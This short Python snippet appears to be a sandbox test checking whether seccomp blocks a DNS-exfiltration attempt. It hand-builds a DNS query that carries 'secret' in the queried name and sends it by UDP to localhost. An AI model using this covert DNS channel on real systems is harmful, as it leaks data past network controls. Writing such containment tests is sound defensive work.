# Sends a question as to a name server, with what it wants to give away in the name.
# held by: seccomp
# bites without: seccomp
import socket

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"
client = socket.socket(type=socket.SOCK_DGRAM)
client.connect(("127.0.0.1", UDP))
client.send(question)
breach("asked")
